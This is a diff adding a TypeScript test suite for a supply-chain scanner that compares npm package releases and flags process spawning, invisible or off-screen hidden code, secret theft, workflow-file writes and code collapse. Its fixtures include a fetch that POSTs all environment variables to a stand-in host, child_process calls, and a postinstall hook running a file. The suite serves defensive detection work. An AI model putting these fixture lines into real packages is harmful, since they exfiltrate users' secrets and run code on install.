@@ -1,0 +1,100 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import type { News, PackageFacts } from "../../../model/index.ts";
+import { weighChange } from "./compare-weigh.ts";
+import { comparePackages } from "./compare.ts";
+import { packageFacts } from "./files-package.ts";
+
+async function release(files: Readonly<Record<string, string>>, manifest: object = {}): Promise<PackageFacts> {
+  const all = { "package.json": JSON.stringify({ name: "a", version: "1.0.0", ...manifest }), ...files };
+  return await packageFacts(
+    "",
+    Object.entries(all).map(([path, text]) => ({ path, executable: false, bytes: Buffer.from(text) })),
+  );
+}
+
+async function newsOf(added: Readonly<Record<string, string>>, manifest: object = {}): Promise<readonly News[]> {
+  return comparePackages(
+    await release({ "index.js": "module.exports = 1;\n" }),
+    await release({ "index.js": "module.exports = 1;\n", ...added }, manifest),
+  ).news;
+}
+const told = (news: readonly News[]): readonly string[] =>
+  news.map((one) => `${one.kind} ${one.level}${one.kind === "hiding" ? ` ${one.hiding.kind}` : ""}`);
+
+const STARTS = `require("child_process").exec("ls");\n`;
+const TYPES = `import * as dns from "node:dns";\nexport * from "node:child_process";\nexport declare const a: dns.LookupOptions;\n`;
+
+test("declarations of types do nothing, whatever modules they name, until something loads them as code", async () => {
+  for (const path of ["index.d.ts", "types/a.d.mts", "a.d.cts", "a.d.json.ts"]) assert.deepEqual(await newsOf({ [path]: TYPES }), [], path);
+  assert.ok(told(await newsOf({ "a.d.ts": STARTS, "lib.js": `require("./a.d.ts");\n` })).includes("capability package"));
+  assert.ok(told(await newsOf({ "a.d.ts": STARTS }, { scripts: { postinstall: "node a.d.ts" } })).includes("capability package"));
+  assert.ok(told(await newsOf({ "a.d.ts": STARTS, "lib.js": `require(process.argv[2]);\n` })).includes("capability package"));
+});
+
+test("what a declaration hides is news, that it is dense is none", async () => {
+  const unseen = `export declare const a: "${String.fromCodePoint(...Array.from({ length: 12 }, (_, i) => 0xe0100 + i))}";\n`;
+  assert.deepEqual(told(await newsOf({ "a.d.ts": unseen })), ["hiding package invisible-characters"]);
+  assert.deepEqual(await newsOf({ "a.d.ts": `export declare const a:1;`.repeat(90) }), []);
+});
+
+test("what tests and build files do weighs little where nothing of the package leads to them", async () => {
+  for (const path of ["test/a.js", "lib/a.test.ts", "index.test.js", "test.js", "examples/x/a.mjs", "gulpfile.js", "rollup.config.mjs"]) {
+    const news = await newsOf({ [path]: `${STARTS}fetch("http://host.example/");\n` });
+    assert.ok(news.length > 0 && news.every(({ level }) => level === "aside"), path);
+  }
+});
+
+test("a test counts in full where the manifest, what runs by itself or another file reaches it", async () => {
+  const reached: readonly (readonly [files: Readonly<Record<string, string>>, manifest: object])[] = [
+    [{}, { main: "./test/a" }],
+    [{}, { exports: { ".": { node: { require: "./test/a.js" } } } }],
+    [{}, { exports: { "./*": "./test/*.js" } }],
+    [{}, { bin: { a: "test/a.js" } }],
+    [{}, { directories: { bin: "test" } }],
+    [{}, { scripts: { postinstall: "node test/a.js" } }],
+    [{ "lib.js": `import "./test/b.js";\n`, "test/b.js": `import "./a.js";\n` }, {}],
+  ];
+  for (const [files, manifest] of reached)
+    assert.ok(told(await newsOf({ "test/a.js": STARTS, ...files }, manifest)).includes("capability package"), JSON.stringify(manifest));
+});
+
+test("what is hidden in a test, and secrets that it carries off, count wherever it lies", async () => {
+  const sends = `fetch("https://host.example/", { method: "POST", body: JSON.stringify(process.env) });\n`;
+  assert.ok(told(await newsOf({ "test/a.js": sends })).includes("flow package"));
+  const behind = `let a = 1;${" ".repeat(300)}b();\n`;
+  assert.deepEqual(told(await newsOf({ "test/a.js": behind })), ["hiding package off-screen"]);
+});
+
+test("a rewrite in a seventh of the code is no collapse in a major release, in a patch it is, and nothing left always is", async () => {
+  const code = { "index.js": "exports.one = (a) => a + 1;\n".repeat(400) };
+  const collapses = async (files: Readonly<Record<string, string>>, version: string): Promise<boolean> =>
+    comparePackages(await release(code), await release(files, { version })).news.some(({ kind }) => kind === "collapse");
+  const seventh = { "index.js": "exports.one = (a) => a + 1;\n".repeat(57) };
+  assert.deepEqual(
+    [await collapses(seventh, "1.0.1"), await collapses(seventh, "2.0.0"), await collapses({}, "2.0.0")],
+    [true, false, true],
+  );
+});
+
+const publishes = async (text: string): Promise<boolean> =>
+  (await newsOf({ "lib.js": text })).some((one) => one.kind === "capability" && one.sighting.capability === "propagation");
+
+test("the path of a workflow is news where it may be written, not where it is read or searched for", async () => {
+  assert.equal(await publishes(`exports.all = (glob) => glob([".github/workflows/*.yml"]);\n`), false);
+  assert.equal(await publishes(`exports.read = () => require("fs").readFileSync(".github/workflows/ci.yml", "utf8");\n`), false);
+  assert.equal(await publishes(`require("fs").writeFileSync(".github/workflows/ci.yml", "on: push");\n`), true);
+  assert.equal(
+    await publishes(
+      `const { writeFileSync } = require("fs");\nexports.put = (root) => writeFileSync(root + "/.github/workflows/ci.yml", "");\n`,
+    ),
+    true,
+  );
+  const change = comparePackages(
+    await release({ "index.js": "" }),
+    await release({
+      "index.js": `const at = ".github/workflows/x.yml";\nrequire("fs").writeFileSync(process.argv[2] + at, "on: push");\n`,
+    }),
+  );
+  assert.equal(weighChange(change).tier, "review");
+});
